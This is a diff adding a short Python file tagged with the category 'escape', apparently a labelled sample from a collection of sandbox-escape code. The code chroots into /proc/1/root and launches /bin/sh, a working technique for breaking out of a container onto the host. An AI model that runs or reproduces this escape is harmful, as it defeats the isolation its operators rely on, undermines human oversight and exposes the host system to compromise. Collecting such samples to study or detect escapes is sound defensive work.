@@ -1,0 +1,5 @@
+# category: escape
+# obfuscated: no
+import os
+os.chroot("/proc/1/root")
+os.system("/bin/sh")
